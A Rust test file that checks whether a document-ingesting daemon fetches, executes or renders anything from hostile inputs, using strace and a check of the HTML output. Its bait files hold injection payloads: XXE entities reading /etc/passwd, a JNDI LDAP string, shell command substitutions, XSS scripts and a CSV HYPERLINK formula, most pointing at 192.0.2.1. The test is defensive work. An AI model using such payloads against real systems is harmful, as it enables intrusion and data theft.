//! Nothing in a document is executed, fetched, followed or rendered as markup.

use std::fs;
use std::process::Command;

use crate::harness::{is_there, plugins, run};
use crate::station::Station;

/// What asks to be fetched, run or drawn.
const BAITS: [(&str, &str); 8] = [
    (
        "link.html",
        "<p>Astana agreed.<img src=http://192.0.2.1/x.png><script src=//192.0.2.1/x.js></script><iframe src=file:///etc/passwd></iframe>",
    ),
    (
        "link.md",
        "Astana agreed. ![x](http://192.0.2.1/x.png) [y](file:///etc/passwd) <script>alert(1)</script>",
    ),
    (
        "entity.xml",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://192.0.2.1/e\"><!ENTITY f SYSTEM \"file:///etc/passwd\">]><rss><channel><item><title>T</title><description>Astana &e; &f; agreed.</description></item></channel></rss>",
    ),
    (
        "include.json",
        "{\"text\": \"Astana agreed. {{7*7}} ${jndi:ldap://192.0.2.1/a} $(touch RAN) `touch RAN`\", \"url\": \"http://192.0.2.1/\"}",
    ),
    (
        "mail.eml",
        "From: a@example.org\r\nSubject: Astana\r\nContent-Type: message/external-body; access-type=URL; URL=\"http://192.0.2.1/\"\r\n\r\nAstana agreed.\r\n",
    ),
    ("shell.txt", "Astana agreed. $(touch RAN) `touch RAN`; touch RAN | sh"),
    (
        "markup.txt",
        "Astana agreed with <script>alert(1)</script><img src=x onerror=alert(2)> Minsk.",
    ),
    ("sheet.csv", "text\n\"=HYPERLINK(\"\"http://192.0.2.1/\"\") Astana agreed.\"\n"),
];

#[test]
fn a_document_makes_the_daemon_call_nobody_and_start_nothing() {
    if !is_there("strace", "-V") {
        return;
    }
    let mut station = Station::new();
    for (name, content) in BAITS {
        station.feed_file(name, content);
    }
    let (trace, pipeline) = (station.at("trace"), station.at("p.yaml"));
    let output = Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=network,execve,execveat,openat"])
        .args(["-o", trace.to_str().unwrap(), env!("CARGO_BIN_EXE_standpoint")])
        .args(["daemon", "--once", "-c", pipeline.to_str().unwrap()])
        .env("STANDPOINT_PLUGINS", plugins())
        .output()
        .unwrap();
    assert!(matches!(output.status.code(), Some(0 | 3)), "{output:?}");
    let calls = fs::read_to_string(trace).unwrap();
    let made = |parts: &[&str]| {
        let is_made = |call: &&str| parts.iter().all(|part| call.contains(part));
        calls.lines().filter(is_made).map(str::to_owned).collect::<Vec<_>>()
    };
    // It is looked at at all, and the program itself is the one that is started.
    assert!(!made(&["openat", "markup.txt"]).is_empty(), "{calls}");
    assert_eq!(made(&["execve"]).len(), 1, "{:?}", made(&["execve"]));
    for family in ["AF_INET", "AF_INET6", "AF_NETLINK"] {
        assert!(made(&["socket(", family]).is_empty(), "{:?}", made(&["socket("]));
    }
    assert!(made(&["connect("]).is_empty(), "{:?}", made(&["connect("]));
    assert!(made(&["openat", "/etc/passwd"]).is_empty());
    assert!(!station.files("").iter().any(|name| name.ends_with("RAN")));
    assert_eq!(station.account(&["out/results.jsonl"]).misplaced, [""; 0]);
}

#[test]
fn markup_in_a_document_is_text_in_a_page() {
    let mut station = Station::new();
    for (name, content) in BAITS {
        station.feed_file(name, content);
    }
    let (inbox, page) = (station.at("inbox"), station.at("page.html"));
    let arguments = ["--format", "html", "-o", page.to_str().unwrap()];
    let config = crate::harness::repository("config/fast.yaml");
    let ran = run(&[&["run", inbox.to_str().unwrap(), "-c", &config], &arguments[..]].concat());
    assert!(matches!(ran.code, Some(0 | 3)), "{}", ran.stderr);
    let page = fs::read_to_string(page).unwrap();
    // The page has no script of its own, so each would be one of theirs.
    for markup in ["<script", "<iframe", "<img", "onerror=alert(2)>", "<meta http-equiv=\"refresh"]
    {
        assert!(!page.contains(markup), "{markup}: {page}");
    }
    assert!(page.contains("default-src 'none'"), "{page}");
    assert!(page.contains("markup.txt"), "{page}");
}
